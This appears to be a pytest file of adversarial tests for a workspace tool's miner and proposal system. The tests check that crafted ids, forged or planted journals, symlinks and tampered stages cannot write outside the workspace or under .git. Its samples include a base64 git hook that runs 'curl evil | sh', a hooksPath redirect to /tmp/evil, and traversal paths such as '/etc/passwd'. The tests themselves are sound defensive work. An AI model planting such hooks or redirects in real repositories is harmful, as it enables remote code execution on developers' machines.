"""Path and symlink attacks through the miner's own state: planted ids, journals, stages and links.

Pass rule of every case: nothing outside the workspace and nothing under `.git/` changes, no file
the person did not accept is written, and the refusal names the file that was planted. Each case
runs on a copy of the mined and proposed demo workspace (signed stages, a real trace).
"""

from __future__ import annotations

import atexit
import base64
import os
import shutil
import sys
import tempfile
from pathlib import Path

import orjson
import pytest
import statekit
from statekit import sha, snapshot, untouched

from core.apply import ApplyRefused, GateResult, apply_delta, recover
from core.apply.journal import Journal, JournalFile, journal_dir, write_journal
from core.authn import KEY_DIR_ENV, KeyUnavailable, seal
from core.mining.passes import RecipesFileError, recipes_path, run_pass
from core.mining.service import trace_path
from core.proposals.decide import DecisionRefused, accept, refine, reject
from core.proposals.inbox import inbox
from core.proposals.proposer import run_proposer
from core.proposals.staging import PROPOSAL_FILE, PROPOSAL_PURPOSE, stage_dir, stage_rel
from core.safeio import UnsafeFile
from core.trace import Trace

pytestmark = pytest.mark.adversarial("paths")

_TMP = Path(tempfile.mkdtemp(prefix="kitsoki-miner-paths-"))
atexit.register(shutil.rmtree, _TMP, True)
TEMPLATE = statekit.build_template(_TMP / "template")
WORLD = TEMPLATE["cards"]["world"]


@pytest.fixture
def case(tmp_path: Path):
    ws, outside = statekit.copy_case(TEMPLATE, tmp_path)
    return ws, outside, snapshot(ws), snapshot(outside)


# ── 1. stored recipe ids never become paths ───────────────────────────────────────────────────

BAD_IDS = ["../../stories/release-desk", "/tmp/kitsoki-miner-abs", "../../.git", "..", ".", "a/b", "",
           "ABCDEF0123456789", "0123456789abcdef0", "0123456789abcde", "stories", ".git", "0123456789abcde\n"]


@pytest.mark.parametrize("bad", BAD_IDS)
def test_a_crafted_id_in_recipes_json_is_refused_before_anything_is_staged(case, bad: str) -> None:
    ws, outside, ws_before, outside_before = case
    path = recipes_path(ws)
    data = orjson.loads(path.read_bytes())
    data["recipes"][0]["id"] = bad
    path.write_bytes(orjson.dumps(data))
    state_before = snapshot(ws / ".artifacts", skip_state=False)
    with pytest.raises(RecipesFileError) as caught:
        run_proposer(ws)
    assert str(path) in str(caught.value) and "recipes[0].id" in str(caught.value)
    untouched(ws, outside, ws_before, outside_before)
    assert snapshot(ws / ".artifacts", skip_state=False) == state_before, "a stage was written"


@pytest.mark.parametrize("bad", ["../../stories/release-desk", "../../.git", "..", "/etc"])
def test_a_crafted_recipe_id_in_the_trace_never_reaches_a_path(case, bad: str) -> None:
    ws, outside, ws_before, outside_before = case
    trace = Trace(trace_path(ws))
    trace.append("mining.proposal_raised", {"recipe_id": bad, "kind": "world", "target": "root-instance",
                                            "priority": 99.0, "rung": 1, "draft_path": bad})
    trace.append("mining.proposal_decided", {"recipe_id": bad, "verdict": "refine", "by": "human"})
    assert bad not in {p.recipe_id for p in inbox(ws)}
    for verdict in (accept, refine, reject):
        with pytest.raises(DecisionRefused):
            verdict(ws, bad)
    run_proposer(ws)
    untouched(ws, outside, ws_before, outside_before)


def test_apply_refuses_a_recipe_id_that_is_not_one(case) -> None:
    ws, outside, ws_before, outside_before = case
    for bad in ("../../.git", "..", "x" * 16):
        with pytest.raises(ApplyRefused):
            apply_delta(ws, bad, {".kitsoki.yaml": b"x: 1\n"}, {".kitsoki.yaml": sha((ws / ".kitsoki.yaml").read_bytes())},
                        gate=lambda p: GateResult(green=True, gate="t", summary="t"), reload=lambda p: None)
    untouched(ws, outside, ws_before, outside_before)


# ── 2. planted journals are never obeyed ──────────────────────────────────────────────────────

HOOK = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()


def _journal_body(recipe_id: str, files: list[dict]) -> dict:
    return {"version": 3, "recipe_id": recipe_id, "accept_id": "0" * 16, "phase": "applying", "started_at": 0.0,
            "started_at_ns": 0, "pid": 1, "files": files, "created_dirs": [], "records_verdict": False}


def _plant_unsigned(ws: Path) -> None:
    jd = journal_dir(ws)
    jd.mkdir(parents=True, exist_ok=True)
    (jd / f"{WORLD}.json").write_bytes(orjson.dumps(_journal_body(WORLD, [
        {"path": ".git/hooks/pre-commit", "existed": True, "mode": 0o755, "before_b64": HOOK, "sha256_after": "0" * 64},
        {"path": "Makefile", "existed": True, "mode": 0o644, "before_b64": HOOK, "sha256_after": "0" * 64}])))


def _plant_forged_mac(ws: Path) -> None:
    """Our key's id and this workspace's fingerprint, a made-up MAC: a forgery, not another key's."""
    from core.authn import load_key, workspace_fingerprint

    jd = journal_dir(ws)
    jd.mkdir(parents=True, exist_ok=True)
    body = orjson.dumps(_journal_body(WORLD, [{"path": "Makefile", "existed": True, "mode": 0o755, "before_b64": HOOK,
                                               "sha256_after": "0" * 64}]), option=orjson.OPT_INDENT_2)
    trailer = f'"mac": "hmac-sha256:{load_key(ws).id}:{workspace_fingerprint(ws, create=True)}:'.encode()
    (jd / f"{WORLD}.json").write_bytes(body[:-2] + b',\n  ' + trailer + b"0" * 64 + b'"\n}\n')


def _plant_other_key(ws: Path) -> None:
    """A journal that verifies under another user's (or an older) key."""
    other = _TMP / "other-key"
    saved = os.environ[KEY_DIR_ENV]
    os.environ[KEY_DIR_ENV] = str(other)
    try:
        journal = Journal.new(WORLD, [JournalFile(path="Makefile", existed=True, mode=0o755,
                                                  before_b64=HOOK, sha256_after="0" * 64)], [])
        write_journal(ws, journal)
    finally:
        os.environ[KEY_DIR_ENV] = saved


def _plant_under_another_name(ws: Path) -> None:
    """A genuine journal of one recipe copied in as another's."""
    genuine = Journal.new(WORLD, [JournalFile(path="Makefile", existed=False, sha256_after="0" * 64)], [])
    path = write_journal(ws, genuine)
    os.rename(path, path.with_name(f"{TEMPLATE['cards']['binding']}.json"))


def _plant_link(ws: Path) -> None:
    jd = journal_dir(ws)
    jd.mkdir(parents=True, exist_ok=True)
    os.symlink(ws.parent / "outside" / "notes.txt", jd / f"{WORLD}.json")


def _plant_signed_git_path(ws: Path) -> None:
    """Signed with the real key (as if by a bug), but naming `.git/`: the record itself is refused."""
    rel = f".artifacts/mining/journal/{WORLD}.json"
    body = _journal_body(WORLD, [{"path": ".git/hooks/pre-commit", "existed": True, "mode": 0o755,
                                  "before_b64": HOOK, "sha256_after": "0" * 64}])
    body["started_at_ns"] = 1
    (ws / rel).parent.mkdir(parents=True, exist_ok=True)
    (ws / rel).write_bytes(seal(body, purpose="apply journal", rel=rel, workspace=ws))


PLANTS = {"unsigned": _plant_unsigned, "forged-mac": _plant_forged_mac,
          "renamed": _plant_under_another_name, "symlink": _plant_link, "signed-git-path": _plant_signed_git_path}


@pytest.mark.parametrize("plant", sorted(PLANTS))
def test_a_planted_journal_is_moved_aside_and_never_obeyed(case, plant: str) -> None:
    ws, outside, ws_before, outside_before = case
    (ws / "Makefile").write_bytes(b"all:\n\ttrue\n")
    ws_before = snapshot(ws)
    PLANTS[plant](ws)
    trace = Trace(trace_path(ws))
    reports = recover(ws, trace)
    assert len(reports) == 1 and reports[0]["refused"], reports
    assert reports[0]["restored"] == [] and reports[0]["moved_to"].endswith(".refused")
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    untouched(ws, outside, ws_before, outside_before)
    assert [e.payload["refused"] for e in trace.events("mining.recovered")] == [reports[0]["refused"]]
    assert recover(ws) == []  # moved aside: it no longer blocks, and is never retried
    assert accept(ws, WORLD).flows_green  # the workspace still accepts


def test_a_journal_signed_with_another_key_is_never_obeyed_but_said_until_a_person_settles_it(case) -> None:
    """A genuine journal of another key (rotated, another user's or HOME's): nothing in it is acted
    on, it stays, every command says so with its files' hashes, and a person's keep is recorded."""
    from core.apply.resolve import resolve_accept, unsettled
    from core.attention import attention

    ws, outside, ws_before, outside_before = case
    (ws / "Makefile").write_bytes(b"all:\n\ttrue\n")
    ws_before = snapshot(ws)
    _plant_other_key(ws)
    trace = Trace(trace_path(ws))
    for _ in range(2):  # every recovery says so; none moves it aside
        [report] = recover(ws, trace)
        assert report["needs_person"] and report["refused"] == "other-key" and report["restored"] == []
    untouched(ws, outside, ws_before, outside_before)
    [item] = unsettled(ws)
    assert not item.verified and [f.path for f in item.files] == ["Makefile"] and item.files[0].now_is == "other"
    [line] = attention(ws)
    assert "signed with another key" in line and "Makefile" in line and f"resolve {WORLD}" in line
    with pytest.raises(DecisionRefused, match="not settled"):
        accept(ws, WORLD)
    result = resolve_accept(ws, WORLD, "restore", trace=trace)  # unverified: only files holding its bytes
    assert result.restored == [] and result.saved == {}
    untouched(ws, outside, ws_before, outside_before)
    assert attention(ws) == [] and unsettled(ws) == []
    assert [(d["flows_green"], d["reverted"]) for d in statekit.decisions(ws, WORLD)] == [(False, True)]


# ── 3. a stage is checked again at accept ─────────────────────────────────────────────────────


def _edit_proposal(ws: Path, target: str, data: bytes, *, sign: bool) -> None:
    folder = stage_dir(ws, WORLD)
    raw = (folder / PROPOSAL_FILE).read_bytes()
    body = orjson.loads(raw.rsplit(b',\n  "mac"', 1)[0] + b"\n}")
    live = ws / target
    body["files"] = [{"path": target, "before_sha256": sha(live.read_bytes()) if live.exists() else None,
                      "after_sha256": sha(data), "changed_lines": [1], "added": [], "diff": ""}]
    (folder / target).parent.mkdir(parents=True, exist_ok=True)
    (folder / target).write_bytes(data)
    rel = f"{stage_rel(WORLD)}/{PROPOSAL_FILE}"
    (folder / PROPOSAL_FILE).write_bytes(seal(body, purpose=PROPOSAL_PURPOSE, rel=rel, workspace=ws) if sign
                                         else orjson.dumps(body, option=orjson.OPT_INDENT_2))


TARGETS = [".git/config", ".git/hooks/pre-commit", "Makefile", "src/app.py", "stories/release-desk/flows/release.yaml",
           ".artifacts/mining/recipes.json", "stories/release-desk/.git/config"]


@pytest.mark.parametrize("sign", [False, True], ids=["hand-edited", "signed-by-a-bug"])
@pytest.mark.parametrize("target", TARGETS)
def test_a_stored_proposal_may_change_only_what_a_fresh_draft_may(case, target: str, sign: bool) -> None:
    ws, outside, ws_before, outside_before = case
    _edit_proposal(ws, target, b"[core]\n\thooksPath = /tmp/evil\n", sign=sign)
    with pytest.raises(DecisionRefused) as caught:
        accept(ws, WORLD)
    message = str(caught.value)
    assert ("not signed" in message) if not sign else (target in message), message
    untouched(ws, outside, ws_before, outside_before)
    assert statekit.decisions(ws, WORLD) == []


def test_a_staged_draft_that_is_a_link_is_never_read_through(case) -> None:
    ws, outside, ws_before, outside_before = case
    secret = outside / "secret.yaml"
    secret.write_bytes(b"root:\n  import: dev-story\n# outside bytes\n")
    outside_before = snapshot(outside)
    draft = stage_dir(ws, WORLD) / ".kitsoki.yaml"
    draft.unlink()
    os.symlink(secret, draft)
    with pytest.raises(DecisionRefused) as caught:
        accept(ws, WORLD)
    assert str(draft) in str(caught.value) and "symbolic link" in str(caught.value)
    untouched(ws, outside, ws_before, outside_before)


def test_a_stage_folder_that_is_a_link_is_refused(case) -> None:
    ws, outside, ws_before, outside_before = case
    folder = stage_dir(ws, WORLD)
    shutil.move(folder, outside / "moved-stage")
    os.symlink(outside / "moved-stage", folder)
    outside_before = snapshot(outside)
    with pytest.raises(DecisionRefused) as caught:
        accept(ws, WORLD)
    assert str(folder) in str(caught.value)
    untouched(ws, outside, ws_before, outside_before)
    run_proposer(ws)  # re-drafting replaces the link with a real stage; the outside copy stays as it was
    assert not folder.is_symlink() and snapshot(outside) == outside_before


# ── 4. links in place of the state folders and files ──────────────────────────────────────────

LINKED = [".artifacts", ".artifacts/mining", ".artifacts/mining/journal", ".artifacts/mining/state",
          ".artifacts/mining/trace.jsonl", ".artifacts/mining/workspace.lock", ".artifacts/mining/recipes.json",
          ".artifacts/mining/trace.jsonl.lock"]


def _link_out(ws: Path, outside: Path, rel: str) -> Path:
    target = ws / rel
    away = outside / ("linked-" + rel.replace("/", "_"))
    if target.exists():
        shutil.move(target, away)
    elif rel.endswith((".json", ".jsonl", ".lock")):
        away.write_bytes(b"")
    else:
        away.mkdir()
    target.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(away, target)
    return target


@pytest.mark.parametrize("rel", LINKED)
def test_a_linked_state_folder_or_file_is_refused_and_nothing_is_written_outside(case, rel: str) -> None:
    ws, outside, ws_before, outside_before = case
    link = _link_out(ws, outside, rel)
    outside_before = snapshot(outside)
    journal = journal_dir(ws)
    messages = []
    for attempt in (lambda: recover(ws, Trace(trace_path(ws))), lambda: accept(ws, WORLD), lambda: refine(ws, WORLD),
                    lambda: run_proposer(ws),
                    lambda: run_pass(ws, repo=ws, dirs=[ws.parent / "transcripts"], trigger="seed", workers=1)):
        try:
            attempt()
        except (UnsafeFile, DecisionRefused, RecipesFileError) as exc:
            messages.append(str(exc))
    assert messages, "every operation went through the link"
    assert any(str(link) in m or rel.split("/")[-1] in m for m in messages), messages
    assert snapshot(outside) == outside_before, "something was written through the link"
    assert snapshot(ws)[".kitsoki.yaml"] == ws_before[".kitsoki.yaml"] or not journal.is_symlink()


# ── 5. other confinements ─────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("target", [".git/config", "stories/x/.git/hooks/post-merge", ".artifacts/other.yaml",
                                    "../outside/notes.txt", "/etc/passwd"])
def test_apply_never_writes_under_git_or_the_state_or_outside(case, target: str) -> None:
    ws, outside, ws_before, outside_before = case
    with pytest.raises(ApplyRefused):
        apply_delta(ws, "00000000000000aa", {target: b"x\n"}, {target: None},
                    gate=lambda p: GateResult(green=True, gate="t", summary="t"), reload=lambda p: None)
    untouched(ws, outside, ws_before, outside_before)


def test_a_key_folder_inside_the_workspace_is_refused(case, monkeypatch) -> None:
    ws, outside, ws_before, outside_before = case
    monkeypatch.setenv(KEY_DIR_ENV, str(ws / ".artifacts" / "key"))
    with pytest.raises((KeyUnavailable, DecisionRefused)) as caught:
        accept(ws, WORLD)
    assert "inside the workspace" in str(caught.value) or "signed with another key" in str(caught.value)
    untouched(ws, outside, ws_before, outside_before)


def test_a_target_replaced_by_a_link_after_a_crash_is_kept_not_written_through(case) -> None:
    ws, outside, ws_before, outside_before = case
    config = ws / ".kitsoki.yaml"
    before = config.read_bytes()
    journal = Journal.new(WORLD, [JournalFile(path=".kitsoki.yaml", existed=True, mode=0o644,
                                              before_b64=base64.b64encode(before).decode(),
                                              sha256_after=sha(b"after\n"))], [])
    write_journal(ws, journal)
    config.unlink()
    os.symlink(outside / "notes.txt", config)
    [report] = recover(ws)
    assert [k["path"] for k in report["kept"]] == [".kitsoki.yaml"] and "symbolic link" in report["kept"][0]["why"]
    assert snapshot(outside) == outside_before


AGENT = r"""
import json, sys
sys.stdin.read()
print(json.dumps({"title": "planted", "kind": "intent", "rung": 2,
                  "summary_markdown": "x" * 60, "files": {sys.argv[1]: "test_kind: flow\n"}}))
"""


@pytest.mark.parametrize("target", ["stories/release-desk/flows/release.yaml", "stories/release-desk/rooms/other.yaml"])
def test_the_agent_drafter_may_change_only_the_files_it_was_offered(case, target: str) -> None:
    from core.mining.passes import read_recipes
    from core.proposals.agent import AgentDrafter

    ws, outside, ws_before, outside_before = case
    script = outside / "agent.py"
    script.write_text(AGENT)
    outside_before = snapshot(outside)
    recipes = [r for r in read_recipes(ws) if r.kind == "intent"]
    drafter = AgentDrafter([sys.executable, str(script), target], outside / "cassettes", mode="live")
    shutil.rmtree(stage_dir(ws, recipes[0].id))  # so the recipe is drafted again, by the agent
    report = run_proposer(ws, recipes, drafter=drafter, drafter_name="agent")
    outcome = next(o for o in report.outcomes if o.recipe_id == recipes[0].id)
    assert outcome.result in ("failed", "withdrawn") and target in outcome.reason, outcome
    assert not stage_dir(ws, recipes[0].id).exists()
    untouched(ws, outside, ws_before, outside_before)


# ── 6. the agent drafter's cassettes, a runs workdir, the server's reads of a stage ───────────


CASSETTE_AGENT = r"""
import sys
sys.stdin.read()
print("{}")
"""


def test_a_linked_cassette_folder_is_never_written_through(case) -> None:
    """Record mode writes each exchange under `.artifacts/mining/cassettes`: a link there is refused,
    nothing is written outside."""
    from core.mining.passes import read_recipes
    from core.proposals.agent import AgentDrafter

    ws, outside, ws_before, outside_before = case
    script = outside / "agent.py"
    script.write_text(CASSETTE_AGENT)
    link = _link_out(ws, outside, ".artifacts/mining/cassettes")
    outside_before = snapshot(outside)
    recipes = [r for r in read_recipes(ws) if r.kind == "intent"]
    shutil.rmtree(stage_dir(ws, recipes[0].id))
    drafter = AgentDrafter([sys.executable, str(script)], link, mode="record")
    report = run_proposer(ws, recipes, drafter=drafter, drafter_name="agent")
    outcome = next(o for o in report.outcomes if o.recipe_id == recipes[0].id)
    assert outcome.result == "failed" and "symbolic link" in outcome.reason, outcome
    assert snapshot(outside) == outside_before, "a cassette was written through the link"


def test_a_cassette_that_is_a_link_is_never_replayed(case) -> None:
    """Replay reads a cassette only if it is a regular file reached without a link: a planted link to
    a file outside (say, another project's recorded answer) is refused by name."""
    from core.mining.passes import read_recipes
    from core.proposals.agent import AgentDrafter

    ws, outside, ws_before, outside_before = case
    recipes = [r for r in read_recipes(ws) if r.kind == "intent"]
    shutil.rmtree(stage_dir(ws, recipes[0].id))
    cassettes = ws / ".artifacts" / "mining" / "cassettes"
    drafter = AgentDrafter(["false"], cassettes, mode="replay")
    from core.kitsoki.inventory import build_inventory
    from core.kitsoki.story import load_workspace
    from core.proposals.agent import build_prompt
    from core.proposals.mapper import Routers, map_recipe
    from core.proposals.proposer import reader_for

    model = load_workspace(ws)
    inventory = build_inventory(model)
    prompt = build_prompt(recipes[0], map_recipe(recipes[0], Routers.build(inventory)), model, inventory,
                          reader_for(ws))
    planted = outside / "answer.json"
    planted.write_text("{}")
    cassettes.mkdir(parents=True, exist_ok=True)
    os.symlink(planted, drafter.cassette_path(prompt))
    outside_before = snapshot(outside)
    report = run_proposer(ws, recipes, drafter=drafter, drafter_name="agent")
    outcome = next(o for o in report.outcomes if o.recipe_id == recipes[0].id)
    assert outcome.result == "failed" and "symbolic link" in outcome.reason, outcome
    assert snapshot(outside) == outside_before


@pytest.mark.parametrize("rel", ["runs", "runs/prep"])
def test_a_link_planted_in_a_runs_workdir_is_refused_at_the_write(tmp_path, rel: str) -> None:
    """Every folder below a runs workdir is reached without a link at the write itself: a link planted
    after the path was built is refused and nothing lands outside."""
    from core.runs.errors import Refused
    from core.runs.files import write_bytes

    workdir, outside = tmp_path / "wd", tmp_path / "outside"
    workdir.mkdir()
    outside.mkdir()
    (workdir / rel).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(outside, workdir / rel)
    with pytest.raises(Refused, match="symbolic link"):
        write_bytes(workdir, f"{rel}/T0001/snippet.md", b"evidence\n")
    assert list(outside.iterdir()) == []


def test_a_planted_link_at_a_runs_lock_is_refused_before_it_is_truncated(tmp_path) -> None:
    from core.runs.errors import Refused
    from core.runs.lock import LOCK_FILE, workdir_lock

    workdir, victim = tmp_path / "wd", tmp_path / "victim.txt"
    workdir.mkdir()
    victim.write_text("keep me\n")
    os.symlink(victim, workdir / LOCK_FILE)
    with pytest.raises(Refused, match="symbolic link"):
        with workdir_lock(workdir, "prepare"):
            pass
    assert victim.read_text() == "keep me\n"


def test_the_server_never_shows_a_staged_draft_through_a_link(tmp_path) -> None:
    """kitsoki/proposalContent reads the staged draft as an accept does: a link planted in place of the
    draft is refused with an error naming it, never its target's bytes."""
    from lsp_wire import Served

    served = Served(tmp_path / "lsp")
    try:
        server = served.ensure()
        card = server.request("kitsoki/proposals", {})["result"]["proposals"][0]
        change = card["files"][0]
        secret = tmp_path / "outside-secret.yaml"
        secret.write_text("token: outside bytes\n")
        draft = stage_dir(served.ws, card["id"]) / change["path"]
        draft.unlink()
        os.symlink(secret, draft)
        answer = server.request("kitsoki/proposalContent", {"id": card["id"], "uri": change["uri"]})
        assert "outside bytes" not in orjson.dumps(answer).decode()
        assert "error" in answer and "symbolic link" in answer["error"]["message"], answer
    finally:
        served.close()
